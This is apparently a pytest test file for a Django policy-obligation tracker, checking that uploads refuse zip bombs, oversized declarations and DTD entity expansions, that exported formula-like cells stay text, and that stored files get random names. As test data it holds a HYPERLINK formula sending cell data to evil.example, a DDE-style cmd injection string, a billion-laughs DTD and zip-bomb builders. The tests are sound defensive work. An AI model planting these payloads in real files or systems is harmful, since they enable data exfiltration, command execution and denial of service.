"""Uploads and exports (issue 14 item 5): zip bombs and oversized declarations refused
before any parser sees them, formula cells in exports kept as text, files stored under
random names."""

import csv
import io
import re
import time
import zipfile
from urllib.parse import unquote

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from obligations.importers import DocumentError
from obligations.importers.formats import read_document
from obligations.models import (
    DocumentUpload,
    Evidence,
    ListImport,
    Obligation,
    PolicyDocument,
    ProgressReport,
    Region,
    Task,
)
from obligations.selectors.exports import responsibility_rows, to_csv, to_xlsx
from obligations.services.list_import import plan_import
from tests.obligations.test_list_import import LONGDE, export_xlsx, snapshot
from tests.obligations.test_list_import import upload as upload_list

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'


@pytest.fixture
def people(seeded):
    return {u.username: u for u in get_user_model().objects.all()}


def rewrite(data: bytes, changes: dict[str, bytes | None] | None = None, *, extra=()) -> bytes:
    """The zip with some members replaced (bytes), or a function applied to them; `extra`
    (name, chunks) members appended, written in streaming so 200 MB never sits in memory."""
    changes = changes or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            change = changes.get(info.filename)
            if callable(change):
                content = change(content)
            elif change is not None:
                content = change
            target.writestr(info.filename, content)
        for name, chunks in extra:
            with target.open(name, "w", force_zip64=True) as handle:
                for chunk in chunks:
                    handle.write(chunk)
    return output.getvalue()


def zeros(megabytes: int):
    block = bytes(1024 * 1024)
    return (block for _ in range(megabytes))


def longde_list() -> bytes:
    return export_xlsx(document=PolicyDocument.objects.get(doc_number=LONGDE))


def refused_in_the_browser(client, people, data: bytes, *message_parts: str):
    """Uploads to /register/import/, returns the page; asserts the refusal was quick, Chinese
    and wrote nothing."""
    client.force_login(people["admin"])
    document = PolicyDocument.objects.get(doc_number=LONGDE)
    before = snapshot()
    started = time.monotonic()
    response = upload_list(client, data, document=document.pk)
    elapsed = time.monotonic() - started
    assert response.status_code == 200  # the form again, with the message
    page = response.content.decode()
    for part in message_parts:
        assert part in page
    assert elapsed < 5, f"refusal took {elapsed:.1f} s"
    assert snapshot() == before and not ListImport.objects.exists()
    return page


def test_a_workbook_with_a_200_mb_member_of_zeros_is_refused_within_seconds(client, people):
    bomb = rewrite(longde_list(), extra=[("xl/media/image1.png", zeros(200))])
    assert len(bomb) < 1024 * 1024  # what is uploaded is small
    refused_in_the_browser(client, people, bomb, "解压后共 200 MB，超过上限 50 MB", "未读取")


def test_a_member_compressed_a_thousand_times_is_refused_by_its_ratio(client, people):
    bomb = rewrite(longde_list(), extra=[("xl/media/image1.png", zeros(30))])
    refused_in_the_browser(client, people, bomb, "xl/media/image1.png", "压缩比为", "超过上限 100 倍",
                           "压缩炸弹")


def test_a_sheet_declaring_the_whole_grid_is_refused_before_it_is_read(client, people):
    def whole_grid(xml: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', xml)

    bomb = rewrite(longde_list(), {"xl/worksheets/sheet1.xml": whole_grid})
    page = refused_in_the_browser(client, people, bomb, "A1:XFD1048576",
                                  "1048576 行 × 16384 列", "超过上限 20000 行、100 列")
    assert "隆党发〔2021〕2号" in page  # the sheet is named as Excel shows it


def test_a_shared_strings_table_declaring_billions_of_entries_is_refused(client, people):
    def huge(xml: bytes) -> bytes:
        return re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', xml)

    data = longde_list()
    assert "xl/sharedStrings.xml" not in zipfile.ZipFile(io.BytesIO(data)).namelist()
    # openpyxl writes inline strings; a workbook saved by Excel keeps them in a table.
    table = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org'
             b'/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>x</t></si></sst>')
    bomb = rewrite(data, {"xl/sharedStrings.xml": None},
                   extra=[("xl/sharedStrings.xml", [huge(table)])])
    refused_in_the_browser(client, people, bomb, "共享字符串表有 4000000000 项",
                           "超过上限 2000000 项")


def test_shared_strings_are_counted_not_only_taken_at_their_word(seeded, settings):
    settings.UPLOAD_XLSX_MAX_SHARED_STRINGS = 100
    entries = b"".join(b"<si><t>%d</t></si>" % n for n in range(150))
    table = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             b'count="1" uniqueCount="1">' + entries + b"</sst>")
    bomb = rewrite(longde_list(), extra=[("xl/sharedStrings.xml", [table])])
    with pytest.raises(DocumentError, match="共享字符串表有 150 项，超过上限 100 项"):
        plan_import(bomb, file_name="清单.xlsx", documents=PolicyDocument.objects.all())


def test_a_part_with_a_dtd_is_refused(client, people):
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>')

    def with_dtd(xml: bytes) -> bytes:
        return laughs + re.sub(rb"^<\?xml[^>]*\?>", b"", xml)

    bomb = rewrite(longde_list(), {"xl/workbook.xml": with_dtd})
    refused_in_the_browser(client, people, bomb, "xl/workbook.xml", "含有 DTD 声明")


def test_rows_past_the_cap_are_refused_even_without_a_declared_dimension(seeded, settings):
    settings.UPLOAD_XLSX_MAX_ROWS = 5
    data = longde_list()
    before = snapshot()
    with pytest.raises(DocumentError, match="声明的范围是 A1:J"):
        plan_import(data, file_name="清单.xlsx", documents=PolicyDocument.objects.all())
    undeclared = rewrite(data, {"xl/worksheets/sheet1.xml":
                                lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b"", xml)})
    plan = plan_import(undeclared, file_name="清单.xlsx", documents=PolicyDocument.objects.all())
    assert not plan.valid
    assert any("工作表超过 5 行" in p.message for p in plan.blocking)
    assert snapshot() == before


def test_the_parse_runs_under_a_time_limit(client, people, settings):
    settings.UPLOAD_PARSE_SECONDS = 0.001
    refused_in_the_browser(client, people, longde_list(), "读取超过 0.001 秒，已停止")


def test_the_command_refuses_a_bomb_with_the_same_message(seeded, tmp_path):
    path = tmp_path / "清单.xlsx"
    path.write_bytes(rewrite(longde_list(), extra=[("xl/media/image1.png", zeros(200))]))
    before = snapshot()
    with pytest.raises(CommandError, match="解压后共 200 MB"):
        call_command("import_list", str(path), "--document", LONGDE, "--confirm")
    assert snapshot() == before and not ListImport.objects.exists()


def test_an_ordinary_exported_list_still_imports(client, people):
    """The checks leave real files alone: the seed's own export passes them."""
    client.force_login(people["admin"])
    response = upload_list(client, longde_list(),
                           document=PolicyDocument.objects.get(doc_number=LONGDE).pk)
    assert response.status_code == 302 and ListImport.objects.count() == 1


# -- .docx --------------------------------------------------------------------------------

def docx_bytes(text: str = "测试县人民政府关于印发重点任务分工方案的通知。" * 3) -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def docx_bomb() -> bytes:
    return rewrite(docx_bytes(), extra=[("word/media/image1.png", zeros(200))])


def test_a_docx_bomb_is_refused_at_upload_and_nothing_is_stored(client, db):
    admin = get_user_model().objects.create_superuser("boss", password="x")
    client.force_login(admin)
    started = time.monotonic()
    response = client.post(reverse("obligations:document_uploads"),
                           {"file": SimpleUploadedFile("方案.docx", docx_bomb()), "region": ""})
    assert time.monotonic() - started < 5
    page = response.content.decode()
    assert response.status_code == 200 and "上传未成功" in page
    assert re.search(r"解压后共 20\d MB，超过上限 50 MB", page)
    assert not DocumentUpload.objects.exists()


def test_the_document_reader_refuses_a_docx_bomb_before_python_docx(db):
    assert "重点任务分工方案" in read_document(docx_bytes(), source_name="方案.docx")
    with pytest.raises(DocumentError, match=r"方案.docx：解压后共 20\d MB"):
        read_document(docx_bomb(), source_name="方案.docx", max_bytes=20 * 1024 * 1024)


def fupin_task():
    return Task.objects.get(obligation__document__doc_number=LONGDE, obligation__code="二.(五)",
                            unit__name="扶贫办")


def report(client, task, files):
    return client.post(reverse("obligations:report", args=[task.pk]), {
        "version": task.version, "status": "done", "percent": "100",
        "narrative": "已完成公示。", "milestone": "", "uploads": files})


def test_a_docx_bomb_as_evidence_is_refused_and_nothing_is_saved(client, people):
    client.force_login(people["longde_fupin"])
    response = report(client, fupin_task(), [SimpleUploadedFile("公示.docx", docx_bomb())])
    assert response.status_code == 200
    assert re.search(r"“公示.docx”：解压后共 20\d MB，超过上限 50 MB", response.content.decode())
    assert not ProgressReport.objects.exists() and not Evidence.objects.exists()


# -- Exports: formula cells stay text --------------------------------------------------------

def test_a_formula_title_is_exported_as_text_in_csv_and_excel(client, people):
    measure = Obligation.objects.filter(document__doc_number=LONGDE, kind="measure").first()
    measure.title = HYPERLINK
    measure.save(update_fields=["title"])
    client.force_login(people["admin"])
    params = {"document": measure.document_id}

    response = client.get("/api/v1/responsibility-list/", {**params, "format": "csv"})
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    content = table[0].index("具体内容")
    cells = [row[content] for row in table[1:]]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert all(row[1].isdigit() for row in table[1:])  # 序号 stays a plain number

    response = client.get("/api/v1/responsibility-list/", {**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cell = next(c for c in sheet["C"] if c.value == HYPERLINK)
    assert cell.data_type == "s"  # a string cell: shown as text, never evaluated
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(response.content)).read(
        "xl/worksheets/sheet1.xml")
    assert sheet["A2"].data_type == "n" and sheet["A2"].value == 1

    # Kept as it is (no quote added): the exported list imports back without changes.
    plan = plan_import(response.content, file_name="x.xlsx", documents=PolicyDocument.objects.all(),
                       document=measure.document)
    assert plan.valid and not plan.has_changes


def test_a_unit_name_starting_with_a_formula_character_is_text_everywhere(seeded):
    rows = responsibility_rows(Obligation.objects.filter(document__doc_number=LONGDE,
                                                         kind="measure"))
    rows[0]["lead_units"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[0]["supporting_units"] = "+县财政局"
    rows[1]["deadline"] = "-1+1"
    rows[2]["matter"] = "\t=1+1"
    rows[0]["number"] = -3  # numeric data, negative: still a number
    table = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"))))
    assert table[1][6] == "'@SUM(1+1)*cmd|' /C calc'!A0" and table[1][8] == "'+县财政局"
    assert table[2][9] == "'-1+1" and table[3][2] == "'\t=1+1"
    assert table[1][1] == "-3"
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).worksheets[0]
    assert (sheet["F2"].value, sheet["F2"].data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
    assert sheet["F2"].quotePrefix and sheet["I3"].quotePrefix and sheet["B4"].quotePrefix
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3, "n")


# -- Stored names ----------------------------------------------------------------------------

STORED = re.compile(r"[0-9a-f]{32}\.[a-z]+")


def test_evidence_is_stored_under_a_random_name_and_downloaded_under_its_own(client, people):
    client.force_login(people["longde_fupin"])
    response = report(client, fupin_task(), [SimpleUploadedFile("村级公示.pdf", PDF)])
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert evidence.original_name == "村级公示.pdf"
    folder, name = evidence.file.name.rsplit("/", 1)
    assert re.fullmatch(r"evidence/\d{4}/\d{2}", folder) and STORED.fullmatch(name)
    assert name.endswith(".pdf") and "村级公示" not in evidence.file.name
    assert not re.search(r"[^\x00-\x7f]", evidence.file.name)
    download = client.get(reverse("obligations:evidence", args=[evidence.pk]))
    assert b"".join(download.streaming_content) == PDF
    assert "村级公示.pdf" in unquote(download["Content-Disposition"])


def test_an_uploaded_document_is_stored_under_a_random_name(client, db):
    Region.objects.create(code="990101", name="测试县", level="county")
    admin = get_user_model().objects.create_superuser("boss", password="x")
    client.force_login(admin)
    text = "测试县人民政府关于印发分工方案的通知\n一、产业发展\n".encode()
    response = client.post(reverse("obligations:document_uploads"),
                           {"file": SimpleUploadedFile("分工方案（第二稿）.txt", text), "region": ""})
    assert response.status_code == 302
    upload = DocumentUpload.objects.get()
    folder, name = upload.file.name.rsplit("/", 1)
    assert re.fullmatch(r"documents/\d{4}/\d{2}", folder) and STORED.fullmatch(name)
    assert name.endswith(".txt") and not re.search(r"[^\x00-\x7f]", upload.file.name)
    assert upload.file_name == "分工方案（第二稿）.txt"
    download = client.get(reverse("obligations:document_upload_file", args=[upload.pk]))
    assert b"".join(download.streaming_content) == text
    assert "分工方案（第二稿）.txt" in unquote(download["Content-Disposition"])
